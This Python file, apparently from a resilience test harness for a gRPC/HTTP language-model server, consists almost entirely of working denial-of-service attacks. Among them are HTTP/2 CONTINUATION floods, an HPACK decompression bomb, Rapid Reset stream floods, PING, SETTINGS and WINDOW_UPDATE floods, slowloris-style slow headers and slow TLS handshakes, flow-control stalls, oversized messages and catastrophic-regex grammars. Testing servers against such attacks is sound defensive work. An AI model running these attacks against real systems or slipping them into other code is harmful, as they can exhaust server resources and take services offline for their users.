"""The attacks, one function each, run by attack_run.py as a child of the lowest priority:

    attack.py NAME JSON

JSON is the target: grpc, http and metrics addresses, source (address of the attacker), seconds, full, ca (file of the
certificate if gRPC has TLS). The last line of the output is a JSON object of what the attacker saw."""

import collections
import itertools
import json
import socket
import ssl
import struct
import sys
import threading
import time

import http2
import messages
import raw
from http2 import (CONTINUATION, DATA, END_HEADERS, HEADERS, MAX_FRAME, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                   frame, request_block)

COMPLETE = request_block(http2.SERVICE + "Complete")
LONG = messages.complete_request("It was late, and", 4000)
MIB = 1 << 20


class Target:
    def __init__(self, fields):
        self.grpc, self.http, self.metrics = (serving_address(fields[name]) for name in ("grpc", "http", "metrics"))
        self.source, self.seconds, self.full = fields["source"], fields["seconds"], fields["full"]
        self.tls = None
        if fields.get("ca"):
            self.tls = ssl.create_default_context(cafile=fields["ca"])
            self.tls.set_alpn_protocols(["h2"])

    def connect(self, **options):
        return http2.Connection(self.grpc, source=self.source, tls=self.tls, **options)


def serving_address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def repeated(first, rest):
    """Chunks of a flood: `first`, then `rest` for ever."""
    return lambda: itertools.chain((first,), itertools.repeat(rest))


# --- header blocks without an end ---


def endless_block(payload, count=4):
    return repeated(frame(HEADERS, 0, 1, COMPLETE), frame(CONTINUATION, 0, 1, payload) * count)


def continuation_literals(target):
    return raw.flood(target, endless_block((http2.literal("abcdefgh", "v" * 100) * 150)[:MAX_FRAME // 111 * 111]))


def continuation_indexed(target):
    return raw.flood(target, endless_block(b"\x90" * MAX_FRAME))


def continuation_table(target):
    return raw.flood(target, endless_block(b"\x40\x01a\x01b" * 3276))


def continuation_varints(target):
    return raw.flood(target, endless_block(b"\xff" * MAX_FRAME))


def continuation_empty(target):
    return raw.flood(target, endless_block(b"", 7000))


def hpack_bomb(target):
    """A field of 4,000 bytes enters the table once; each stream then names it 12,000 times."""
    def chunks():
        entry = b"\x40\x01x" + http2._integer(4000, 7) + b"v" * 4000
        for number in itertools.count(1, 2):
            fields = (entry if number == 1 else b"") + b"\xbe" * 12000
            yield frame(HEADERS, END_HEADERS, number, COMPLETE + fields)
    return raw.flood(target, chunks)


def large_metadata(target):
    """Streams that wait, each with almost as much metadata as is allowed."""
    block = COMPLETE + b"".join(http2.literal(f"x-{number}", "v" * 100) for number in range(100))
    return hold_streams(target, 16, 128, lambda call: None, block=block)


def slow_headers(target):
    """The bytes of a header block, one at a time."""
    opening = http2.PREFACE + http2.settings() + frame(HEADERS, 0, 1, COMPLETE)[:20]
    return raw.hold(target, target.grpc, [opening] * 64, drip=b"\0")


# --- small frames ---


def unknown_frames(target):
    return raw.flood(target, repeated(b"", frame(0x55, 0, 0, b"x" * 16) * 2600))


def empty_data(target):
    return raw.flood(target, repeated(frame(HEADERS, END_HEADERS, 1, COMPLETE), frame(DATA, 0, 1) * 7000))


def priority_frames(target):
    return raw.flood(target, repeated(b"", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 4600))


def window_updates(target):
    return raw.flood(target, repeated(b"", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 5000))


def pings(target):
    return raw.flood(target, repeated(b"", frame(PING, 0, 0, b"01234567") * 3800))


def settings_frames(target):
    return raw.flood(target, repeated(b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 4300))


def window_settings(target):
    """The initial window of streams, up and down, with streams that wait for it."""
    opened = b"".join(frame(HEADERS, END_HEADERS, number, COMPLETE) for number in range(1, 200, 2))
    flips = b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (0, (1 << 31) - 1)) * 2000
    return raw.flood(target, repeated(opened, flips))


def one_byte_data(target):
    """Messages of 4 MiB, a byte in each frame, within the flow control."""
    def send(call, end):
        call.send_bytes(b"\0" + struct.pack(">I", 4 * MIB - 1))
        while time.monotonic() < end:
            part = call._connection.take_window(call, 4096, max(0.1, end - time.monotonic()))
            call._connection.send(frame(DATA, 0, call.number, b"\0") * part)
    return busy_streams(target, 4, 4, "Complete", send)


def reset_chunks():
    block = b"\x83\x86" + b"".join(http2.literal(*field) for field in (
        (":path", http2.SERVICE + "Score"), (":authority", "x"), ("content-type", "application/grpc"), ("te", "trailers")))
    for number in itertools.count(1, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, number + 2 * i, block) +
                       frame(RST_STREAM, 0, number + 2 * i, b"\0\0\0\x08") for i in range(100))


def rapid_reset(target):
    return raw.flood(target, reset_chunks)


def rapid_reset_8(target):
    return raw.flood(target, reset_chunks, connections=8)


# --- streams that hold memory or places ---


def summary(connections, **more):
    statuses = collections.Counter()
    for connection in connections:
        statuses.update(connection.statuses)
    result = {"connections": len(connections), "closed": sum(connection.closed for connection in connections),
              "codes": dict(statuses), **more}
    for connection in connections:
        connection.close()
    return result


def open_connections(target, count, **options):
    """As many as the server accepts."""
    made = []
    for _ in range(count):
        try:
            made.append(target.connect(**options))
        except (OSError, http2.Closed):
            pass
    return made


def hold_streams(target, connections, streams, use, method="Complete", block=None, **options):
    """Opens streams, calls use(call) on each, and waits for the end of the attack."""
    end = time.monotonic() + target.seconds
    made, opened = open_connections(target, connections, **options), 0

    def run(connection):
        nonlocal opened
        try:
            for _ in range(streams):
                if time.monotonic() > end:
                    return
                if block is None:
                    call = connection.call(method, [("x-tenant-id", "attacker")])
                else:
                    number = connection._next
                    connection._next += 2
                    call = connection.calls.setdefault(number, http2.Call(connection, number))
                    connection.send(frame(HEADERS, END_HEADERS, number, block))
                opened += 1
                try:
                    use(call)
                except (http2.Closed, TimeoutError):
                    pass
        except http2.Closed:
            pass

    in_parallel(run, made)
    time.sleep(max(0.0, end - time.monotonic()))
    return summary(made, streams=opened)


def in_parallel(function, arguments):
    threads = [threading.Thread(target=function, args=(argument,), daemon=True) for argument in arguments]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def busy_streams(target, connections, streams, method, send):
    """send(call, end) on many streams at once, again with a new stream when it ends."""
    end = time.monotonic() + target.seconds
    made, sent = open_connections(target, connections), collections.Counter()

    def run(connection):
        while time.monotonic() < end and not connection.closed:
            try:
                send(connection.call(method, [("x-tenant-id", "attacker")]), end)
                sent["calls"] += 1
            except http2.Closed:
                pass
            except TimeoutError:
                sent["blocked"] += 1

    in_parallel(run, [connection for connection in made for _ in range(streams)])
    return summary(made, **sent)


def half_messages(target):
    """1,200 messages of 4 MiB on 10 connections, sent but for a byte, as far as the flow control allows."""
    end = time.monotonic() + target.seconds
    made, sent = open_connections(target, 10), collections.Counter()
    size = 4 * MIB - 64

    def run(connection):
        rest = {}
        try:
            for _ in range(120):
                call = connection.call("Complete", [("x-tenant-id", "attacker")])
                rest[call] = size - 1
                call.send_bytes(b"\0" + struct.pack(">I", size), timeout=1)
            while rest and time.monotonic() < end:
                moved = False
                for call in list(rest):
                    try:
                        call.send_bytes(b"\0" * min(rest[call], MAX_FRAME), timeout=0)
                        rest[call] -= MAX_FRAME
                        sent["sent"] += MAX_FRAME
                        moved = True
                    except TimeoutError:
                        continue
                    except http2.Closed:
                        rest[call] = 0
                    if rest[call] <= 0:
                        del rest[call]
                if not moved:
                    time.sleep(0.01)
        except (http2.Closed, TimeoutError):
            pass

    in_parallel(run, made)
    time.sleep(max(0.0, end - time.monotonic()))
    return summary(made, **sent)


def huge_messages(target):
    """Messages that declare 4 GiB."""
    def send(call, end):
        call.send_bytes(b"\0\xff\xff\xff\xff" + b"\0" * 60000, timeout=1)
        call.receive(timeout=max(0.1, min(1.0, end - time.monotonic())))
    return busy_streams(target, 4, 16, "Complete", send)


def slow_messages(target):
    """Messages of 1,000 bytes, a byte every quarter of a second."""
    end = time.monotonic() + target.seconds
    made, calls = open_connections(target, 4), []

    def run(connection):
        try:
            for _ in range(64):
                call = connection.call("Complete", [("x-tenant-id", "attacker")])
                call.send_bytes(b"\0" + struct.pack(">I", 1000), timeout=2)
                calls.append(call)
        except (http2.Closed, TimeoutError):
            pass

    in_parallel(run, made)
    while time.monotonic() < end:
        for call in calls:
            try:
                call.send_bytes(b"\0", timeout=0)
            except (http2.Closed, TimeoutError):
                pass
        time.sleep(0.25)
    return summary(made, streams=len(calls), left=sum(call.status is None for call in calls))


def silent_appends(target):
    """Appends that send text and then nothing: they hold their sessions, and what was collected. At the end another client
    must be able to append to the first of the sessions."""
    end = time.monotonic() + target.seconds
    owner = target.connect()
    count = 400 if target.full else 150
    metadata = [("x-tenant-id", "attacker")]
    sessions = []
    for _ in range(count):
        status, session, _ = owner.unary("CreateSession", metadata=metadata)
        if status == "OK":
            sessions.append(messages.session_id(session))
    made = open_connections(target, 4)
    text = "It was a fine morning. " * 400  # 9 kB: more would be tokenized, and not be silent, for longer than the test
    held = []

    def run(connection):
        try:
            for session in sessions[made.index(connection)::len(made)]:
                call = connection.call("Append", metadata)
                held.append(call)
                call.send(messages.append_request(session, "It was"), timeout=2)
            for _ in range(8):
                for call in [call for call in held if call._connection is connection]:
                    if time.monotonic() < end - 4:
                        try:
                            call.send(messages.append_request("", text), timeout=0.2)
                        except (TimeoutError, http2.Closed):
                            pass
        except (http2.Closed, TimeoutError):
            pass

    in_parallel(run, made)
    time.sleep(max(0.0, end - time.monotonic()))
    status = "no session"
    if sessions:
        call = owner.call("Append", metadata)
        call.send(messages.append_request(sessions[0], "It"), end=True)
        status = call.wait(20)
    return summary([owner, *made], streams=len(held), session=status, left=sum(call.status is None for call in held))


def silent_states(target):
    """400 CompleteWithState streams that send 6 MiB of a state each and then nothing."""
    part = messages.field(1, b"\0" * (MIB - 16))

    def use(call):
        for _ in range(6):
            call.send(part, timeout=0.5)
    return hold_streams(target, 4, 100, use, "CompleteWithState")


def stalled_readers(target):
    """256 completions whose client opens no window."""
    request = messages.complete_request("It was late, and", 10000)
    return hold_streams(target, 2, 128, lambda call: call.send(request, end=True, timeout=2), window=0)


def many_streams(target):
    """Streams of 4,000 tokens of one address, which are read: more than there are slots."""
    return hold_streams(target, 2, 10 if not target.full else 128, lambda call: call.send(LONG, end=True, timeout=2))


def all_streams(target):
    """4,096 completions of 4,000 tokens of one address."""
    return hold_streams(target, 32, 128, lambda call: call.send(LONG, end=True, timeout=2))


def fan_outs(target):
    """Prompts with n 64 choices of 400 tokens, one after the other on four streams."""
    request = messages.complete_request("It was late, and", 400, n=64)

    def send(call, end):
        call.send(request, end=True, timeout=2)
        while call.receive(timeout=max(0.1, end - time.monotonic())) is not None:
            pass

    return busy_streams(target, 1, 4, "Complete", send)


def many_scores(target):
    """20 scores of one address whose texts do not end."""
    text = messages.field(1, "It was a fine morning in May. " * 500)

    def send(call, end):
        while time.monotonic() < end:
            call.send(text, timeout=max(0.1, end - time.monotonic()))

    return busy_streams(target, 2, 10, "Score", send)


def unread_replies(target):
    """60 replies of Tokenize, several MiB each, whose client opens no window."""
    request = messages.field(1, "It was a fine morning. " * 45000)
    return hold_streams(target, 2, 30, lambda call: call.send(request, end=True, timeout=2), "Tokenize", window=0)


def open_streams(target):
    """4,096 streams of Score that send nothing."""
    return hold_streams(target, 32, 128, lambda call: None, "Score")


# --- work ---


def tokenize_cancelled(target):
    """Texts of 4 MiB to tokenize, cancelled as soon as they are sent."""
    request = messages.field(1, "It was a fine morning in May. " * (4 * MIB // 30 - 8))

    def send(call, end):
        call.send(request, end=True, timeout=max(0.1, end - time.monotonic()))
        call.cancel()
    return busy_streams(target, 4, 4, "Tokenize", send)


def echoed_logprobs(target):
    """CompleteUnary with echo and 20 log-probabilities: a reply of some thousand times its text, which has 40 kB, or 280 kB
    with --full."""
    text = "It was a fine morning in May. " * (9300 if target.full else 1300)
    request = messages.complete_request(text, 1, echo=True, logprobs=20)

    def send(call, end):
        call.send(request, end=True, timeout=max(0.1, end - time.monotonic()))
        call.receive(timeout=max(0.1, end - time.monotonic()))
    return busy_streams(target, 2, 1 if target.full else 4, "CompleteUnary", send)


def grammars(target):
    """Completions by grammars that no other call has: half take all the time that a compilation may take, half more memory with
    each token."""
    numbers = itertools.count()

    def send(call, end):
        number = next(numbers)
        slow = "|".join(f"[a-z]{{1,{most}}}" for most in range(1, 131))
        regex = f"({slow})*{number}" if number % 2 else f"((a|b){{1,1000}}){{1,1000}}{number}"
        request = messages.complete_request("It was", 500, ignore_eos=False) + messages.field(26, messages.field(3, regex))
        call.send(request, end=True, timeout=max(0.1, end - time.monotonic()))
        while call.receive(timeout=max(0.1, end - time.monotonic())) is not None:
            pass
    return busy_streams(target, 4, 16, "Complete", send)


# --- connections ---


def idle_sockets(target):
    """256 sockets of one peer that send nothing."""
    return raw.hold(target, target.grpc, [b""] * 256)


def idle_connections(target):
    """256 connections of one peer that begin HTTP/2 and then send nothing."""
    return raw.hold(target, target.grpc, [http2.PREFACE + http2.settings()] * 256)


def slow_http(target):
    """60 connections to the HTTP server and 60 to /metrics, whose headers never end."""
    opening = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
    results = []
    in_parallel(lambda address: results.append(raw.hold(target, address, [opening] * 60, drip=b"a")),
                [target.http, target.metrics])
    return {name: sum(result[name] for result in results) for name in ("connections", "closed", "refused", "open")} | {"codes": {}}


def http_half_bodies(target):
    """40 HTTP requests that declare 60 MiB and send most of them."""
    end = time.monotonic() + target.seconds
    opening = (b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
               b"Content-Length: %d\r\n\r\n" % (60 * MIB))
    sent = collections.Counter()

    def run(_):
        try:
            made = socket.create_connection(target.http, 2, (target.source, 0))
            made.settimeout(0.2)
            made.sendall(opening)
            sent["connections"] += 1
            left = 55
            while time.monotonic() < end:
                try:
                    if left > 0:
                        made.sendall(b" " * MIB)
                        left -= 1
                        sent["sent"] += MIB
                    elif not made.recv(1 << 16):
                        sent["closed"] += 1
                        return
                except TimeoutError:
                    time.sleep(0.05)
            made.close()
        except OSError:
            sent["closed"] += 1

    in_parallel(run, range(40))
    return {"connections": sent["connections"], "closed": sent["closed"], "sent": sent["sent"], "codes": {}}


def http_completions(target):
    """400 streams of one client over HTTP, more than it may run at once."""
    body = json.dumps({"prompt": "It was a fine morning", "max_tokens": 4000, "stream": True}).encode()
    opening = (b"POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
               b"Content-Length: %d\r\n\r\n" % len(body)) + body
    return raw.hold(target, target.http, [opening] * 400) | {"codes": {}}


def disconnects(target):
    """Connections that start a completion and are reset at once."""
    request = messages.complete_request("It was", 1000)
    opening = (http2.PREFACE + http2.settings() + frame(HEADERS, END_HEADERS, 1, COMPLETE) +
               frame(DATA, 1, 1, b"\0" + struct.pack(">I", len(request)) + request))
    end, wanted, done, refused = time.monotonic() + target.seconds * 10, 10000 if target.full else 1500, 0, 0
    while done < wanted and time.monotonic() < end:
        try:
            made = socket.create_connection(target.grpc, 2, (target.source, 0))
            made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            made.sendall(opening)
            made.close()
            done += 1
        except OSError:
            refused += 1
    return {"connections": done, "closed": 0, "refused": refused, "codes": {}}


def slow_tls(target):
    """100 connections whose ClientHello never ends."""
    hello = bytes.fromhex("1603010200010001fc0303")
    return raw.hold(target, target.grpc, [hello] * 100, drip=b"\0")


def tls_continuation(target):
    return continuation_literals(target)


def main(name, fields):
    raw.lower_priority()
    print(json.dumps(globals()[name](Target(json.loads(fields)))), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
